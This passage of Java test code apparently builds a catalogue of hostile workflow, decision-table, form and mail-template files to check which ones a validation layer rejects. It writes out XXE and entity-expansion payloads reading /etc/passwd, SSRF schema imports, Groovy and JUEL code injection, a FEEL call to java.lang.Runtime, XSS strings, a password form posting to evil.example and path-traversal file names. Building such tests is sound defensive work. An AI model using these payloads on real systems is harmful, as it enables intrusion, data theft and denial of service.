                                "?><!DOCTYPE x [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;\">]>")
                        .replace("A process", "&b;"));
        attack(
                "processing instruction",
                "readable",
                TAKES,
                null,
                step(service(mail(), "")).replace("?>\n", "?><?xml-stylesheet href=\"javascript:alert(1)\"?>\n"));
        attack(
                "schema of another address",
                "schema-locations",
                TAKES,
                "definitions",
                step(service(mail(), ""))
                        .replace(
                                "id=\"definitions\"",
                                "id=\"definitions\" xsi:schemaLocation=\"urn:x http://127.0.0.1:9/x.xsd\""));
        attack(
                "schema of a file",
                "schema-locations",
                REFUSES,
                "definitions",
                step(service(mail(), ""))
                        .replace(
                                "id=\"definitions\"",
                                "id=\"definitions\" xsi:noNamespaceSchemaLocation=\"file:///etc/passwd\""));
        attack(
                "import of another address",
                "no-imports",
                REFUSES,
                "definitions",
                step(
                        "hostile",
                        service(mail(), ""),
                        "<bpmn:import importType=\"http://schemas.xmlsoap.org/wsdl/\" location=\"http://127.0.0.1:9/x.wsdl\" namespace=\"urn:x\"/>"));
        attack("nothing but text", "readable", REFUSES, null, "hello");
        attack("two roots", "readable", REFUSES, null, step(service(mail(), "")) + "<x/>");
        attack(
                "depth without end",
                "readable",
                TAKES,
                null,
                step(service(mail(), "<x:y xmlns:x=\"urn:x\"/>"))
                        .replace(
                                "<x:y xmlns:x=\"urn:x\"/>",
                                "<x:y xmlns:x=\"urn:x\">" + "<x:y>".repeat(500) + "</x:y>".repeat(500) + "</x:y>"));
        byte[] other = step(service("camunda:class=\"" + CLASS + "\"", ""))
                .replace("UTF-8", "UTF-16")
                .getBytes(StandardCharsets.UTF_16);
        add(new HostileBundle("model in another encoding", "readable", null, Map.of("attack.bpmn", other), RUNS));
        byte[] cp = step(service("camunda:class=\"" + CLASS + "\"", ""))
                .replace("UTF-8", "IBM037")
                .getBytes(java.nio.charset.Charset.forName("IBM037"));
        add(new HostileBundle("model in EBCDIC", "readable", null, Map.of("attack.bpmn", cp), RUNS));
        add(new HostileBundle(
                "model of three megabytes",
                "file-sizes",
                null,
                Map.of(
                        "attack.bpmn",
                        step(service(mail(), ""))
                                .replace("Something is tried.", "x".repeat(3_000_000))
                                .getBytes(StandardCharsets.UTF_8)),
                TAKES));
    }

    private void decisions() {
        decision(
                "decision that collects what it collected",
                "feel-expressions",
                TAKES,
                "answer",
                table("amount", "x", "for i in 1..100 return partial"));
        decision(
                "decision that goes over lists in lists in lists",
                "feel-expressions",
                TAKES,
                "answer",
                table("amount", "x", "count(for a in [1,2], b in [1,2], c in [1,2] return 1)"));
        decision(
                "decision in JavaScript",
                "feel-only",
                TAKES,
                "condition",
                table("amount", "x", "\"a\"")
                        .replace(
                                "<inputEntry id=\"condition\">",
                                "<inputEntry id=\"condition\" expressionLanguage=\"javascript\">"));
        decision(
                "decision in JUEL",
                "feel-only",
                TAKES,
                "answer",
                table("amount", "&gt; 1", "${bait.run('corpus')}")
                        .replace(
                                "<outputEntry id=\"answer\">",
                                "<outputEntry id=\"answer\" expressionLanguage=\"juel\">"));
        decision(
                "whole table in JUEL",
                "feel-only",
                TAKES,
                "definitions",
                table("amount", "&gt; 1", "\"a\"")
                        .replace("name=\"A table\"", "name=\"A table\" expressionLanguage=\"juel\""));
        decision(
                "input in Groovy",
                "feel-only",
                TAKES,
                "expression",
                table("amount", "&gt; 1", "\"a\"")
                        .replace("typeRef=\"double\"", "typeRef=\"double\" expressionLanguage=\"groovy\""));
        decision(
                "Java function in FEEL",
                "feel-expressions",
                TAKES,
                "answer",
                table(
                        "amount",
                        "&gt; 1",
                        "function(x) external { java: { class: \"java.lang.Runtime\", method signature: \"getRuntime()\" } }"));
        decision(
                "function in FEEL",
                "feel-expressions",
                TAKES,
                "answer",
                table("amount", "&gt; 1", "{f: function(x) x}.f(1)"));
        decision(
                "loop in FEEL",
                "feel-expressions",
                TAKES,
                "answer",
                table("amount", "&gt; 1", "for i in 1..1000000000 return i"));
        decision(
                "loop in a loop in FEEL",
                "feel-expressions",
                TAKES,
                "answer",
                table("amount", "&gt; 1", "for i in 1..1000, j in 1..1000 return i"));
        decision(
                "endless power in FEEL",
                "feel-expressions",
                TAKES,
                "answer",
                table("amount", "&gt; 1", "9 ** 999999999"));
        decision("expression that is no FEEL", "feel-expressions", TAKES, "answer", table("amount", "&gt; 1", "\"a"));
        decision(
                "knowledge model with a function",
                "known-dmn-content",
                TAKES,
                "model",
                table("amount", "&gt; 1", "\"a\"")
                        .replace("<decision ", "<businessKnowledgeModel id=\"model\" name=\"M\"/><decision "));
        decision(
                "import of another table",
                "no-imports",
                REFUSES,
                "definitions",
                table("amount", "&gt; 1", "\"a\"")
                        .replace(
                                "<decision ",
                                "<import namespace=\"urn:x\" locationURI=\"http://127.0.0.1:9/x.dmn\" importType=\"https://www.omg.org/spec/DMN/20191111/MODEL/\"/><decision "));
        decision(
                "class in a table",
                "known-dmn-content",
                TAKES,
                "attack",
                table("amount", "&gt; 1", "\"a\"")
                        .replace("camunda:versionTag", "camunda:class=\"" + CLASS + "\" camunda:versionTag"));
        decision(
                "input variable that is an expression",
                "variable-names",
                TAKES,
                "input",
                table("amount", "&gt; 1", "\"a\"")
                        .replace("<input id=\"input\"", "<input id=\"input\" camunda:inputVariable=\"${bait}\""));
        decision(
                "DOCTYPE in a table",
                "readable",
                REFUSES,
                null,
                table("amount", "&gt; 1", "\"a\"")
                        .replace("?>", "?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>"));
        decision(
                "schema of another address in a table",
                "schema-locations",
                TAKES,
                "definitions",
                table("amount", "&gt; 1", "\"a\"")
                        .replace(
                                "id=\"definitions\"",
                                "id=\"definitions\" xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" xsi:schemaLocation=\"urn:x http://127.0.0.1:9/x.xsd\""));
    }

    private void otherFiles() {
        file("web page", "file-names", "form.html", "<script>alert(1)</script>");
        file(
                "picture with a script",
                "file-names",
                "attack.svg",
                "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>");
        file("picture", "file-names", "attack.png", "PNG");
        file("script", "file-names", "x.js", "alert(1)");
        file("Groovy script", "file-names", "x.groovy", "'id'.execute()");
        file("class", "file-names", "X.class", "x");
        file("model under its old ending", "file-names", "attack.bpmn20.xml", step(service(mail(), "")));
        file("model without a dot", "file-names", "attackbpmn", step(service(mail(), "")));
        file("model in capital letters", "file-names", "attack.BPMN", step(service(mail(), "")));
        file("decision under its old ending", "file-names", "attack.dmn11.xml", table("amount", "&gt; 1", "\"a\""));
        file("path that climbs", "file-names", "../../attack.bpmn", step(service(mail(), "")));
        file("path from the root", "file-names", "/etc/attack.bpmn", step(service(mail(), "")));
        file("path of another system", "file-names", "..\\attack.bpmn", step(service(mail(), "")));
        file("name with a line break", "file-names", "a\nb.form", form(""));
        add(HostileBundle.of(
                "same name twice",
                "file-names",
                null,
                TAKES,
                Map.of("x.form", form(""), "X.form", form("").replace("attack", "b"))));
        file("case model", "no-case-models", REFUSES, "attack.cmmn", """
                <definitions xmlns="http://www.omg.org/spec/CMMN/20151109/MODEL" id="d" targetNamespace="urn:x"><case id="attack"><casePlanModel id="p"/></case></definitions>""");
        file(
                "HTML in a form",
                "harmless-forms",
                "attack.form",
                form("{\"type\":\"html\",\"id\":\"h\",\"content\":\"<script>alert(1)</script>\"}"));
        file(
                "frame in a form",
                "harmless-forms",
                "attack.form",
                form("{\"type\":\"iframe\",\"id\":\"h\",\"url\":\"https://evil.example\"}"));
        file(
                "script in a text of a form",
                "harmless-forms",
                "attack.form",
                form("{\"type\":\"text\",\"id\":\"t\",\"text\":\"<img src=x onerror=alert(1)>\"}"));
        file(
                "script in a link of a form",
                "harmless-forms",
                "attack.form",
                form("{\"type\":\"text\",\"id\":\"t\",\"text\":\"[x](javascript:alert(1))\"}"));
        file(
                "unknown component in a group of a form",
                "harmless-forms",
                "attack.form",
                form("{\"type\":\"group\",\"id\":\"g\",\"components\":[{\"type\":\"iframe\",\"id\":\"h\"}]}"));
        file(
                "form with a key twice",
                "harmless-forms",
                "attack.form",
                "{\"id\":\"a\",\"id\":\"b\",\"type\":\"default\",\"components\":[]}");
        file("form that is no JSON", "harmless-forms", REFUSES, "attack.form", "<html></html>");
        file(
                "template that includes another",
                "logic-less-mails",
                "mail/attack.mustache",
                "Subject: x\n{{>/etc/passwd}}");
        file(
                "template that changes its own signs",
                "logic-less-mails",
                "mail/attack.mustache",
                "Subject: x\n{{=<% %>=}}<%& x %>");
        file("template that does not escape", "logic-less-mails", "mail/attack.html.mustache", "<p>{{{reason}}}</p>");
        file(
                "template that does not escape in the other way",
                "logic-less-mails",
                "mail/attack.html.mustache",
                "<p>{{&reason}}</p>");
        file(
                "template that reaches into objects",
                "logic-less-mails",
                "mail/attack.mustache",
                "Subject: x\n{{supplierName.class.name}}");
        file(
                "template with a script",
                "logic-less-mails",
                "mail/attack.html.mustache",
                "<p>Hello</p><script>alert(1)</script>");
        file(
                "template with a handler",
                "logic-less-mails",
                "mail/attack.html.mustache",
                "<p onclick=\"alert(1)\">Hello</p>");
        file(
                "template with a form",
                "logic-less-mails",
                "mail/attack.html.mustache",
                "<form action=\"https://evil.example\"><input name=\"password\"></form>");
        file("template with an open name", "logic-less-mails", "mail/attack.mustache", "Subject: x\n{{reason");
        file("template that is open", "logic-less-mails", "mail/attack.mustache", "Subject: x\n{{#reason}}");
        file("template in another place", "file-names", "texts/attack.mustache", "Subject: x\nhello");
    }

    private static String condition(String attributes, String expression) {
        return process(
                "hostile",
                "<bpmn:startEvent id=\"start\" name=\"Begun\"/>" + flow("f1", "start", "question")
                        + "<bpmn:exclusiveGateway id=\"question\" name=\"Much?\" default=\"f2\"/>"
                        + flow("f2", "question", "end")
                        + "<bpmn:sequenceFlow id=\"f3\" name=\"yes\" sourceRef=\"question\" targetRef=\"end\"><bpmn:conditionExpression xsi:type=\"bpmn:tFormalExpression\" "
                        + attributes + ">" + expression + "</bpmn:conditionExpression></bpmn:sequenceFlow>"
                        + "<bpmn:endEvent id=\"end\" name=\"Done\"/>");
    }

    private static String ring(String element) {
        return process(
                "hostile",
                "<bpmn:startEvent id=\"start\" name=\"Begun\"/>" + flow("f1", "start", "attack") + element
                        + flow("f2", "attack", "attack"));
    }

    private static String timer(String time) {
        return "<bpmn:intermediateCatchEvent id=\"attack\" name=\"Later\"><bpmn:timerEventDefinition id=\"timer\">"
                + time + "</bpmn:timerEventDefinition></bpmn:intermediateCatchEvent>";
    }

    private static String starting(String time) {
        return step(service(mail(), ""))
                .replace(
                        "<bpmn:startEvent id=\"start\" name=\"Begun\"/>",
                        "<bpmn:startEvent id=\"start\" name=\"Begun\"><bpmn:timerEventDefinition>" + time
                                + "</bpmn:timerEventDefinition></bpmn:startEvent>");
    }

    private static String loop(String content) {
        return "<bpmn:multiInstanceLoopCharacteristics>" + content + "</bpmn:multiInstanceLoopCharacteristics>";
    }

    private static String inSubProcess(String element) {
        return "<bpmn:subProcess id=\"attack\" name=\"All\"><bpmn:startEvent id=\"s\" name=\"S\"/>"
                + flow("g1", "s", "inner") + element + flow("g2", "inner", "e")
                + "<bpmn:endEvent id=\"e\" name=\"E\"/></bpmn:subProcess>";
    }

    private void attack(String name, String rule, Bare bare, String model) {
        add(HostileBundle.model(name, rule, "attack", bare, model));
    }

    private void attack(String name, String rule, Bare bare, @Nullable String elementId, String model) {
        add(HostileBundle.model(name, rule, elementId, bare, model));
    }

    private void decision(String name, String rule, Bare bare, @Nullable String elementId, String table) {
        add(HostileBundle.of(name, rule, elementId, bare, Map.of("attack.dmn", table)));
    }

    private void file(String name, String rule, String file, String content) {
        file(name, rule, TAKES, file, content);
    }

    private void file(String name, String rule, Bare bare, String file, String content) {
        add(HostileBundle.of(name, rule, null, bare, Map.of(file, content)));
    }

    private void add(HostileBundle bundle) {
        all.add(bundle);
    }
}
